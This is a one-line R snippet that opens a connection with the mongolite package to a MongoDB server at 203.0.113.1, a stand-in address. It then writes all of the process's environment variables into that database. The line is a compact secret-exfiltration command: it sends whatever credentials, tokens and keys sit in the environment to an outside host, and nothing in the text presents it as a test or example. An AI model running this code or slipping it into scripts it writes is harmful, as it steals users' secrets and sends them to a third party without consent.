m <- mongolite::mongo(url = "mongodb://203.0.113.1"); m$insert(as.data.frame(Sys.getenv()))
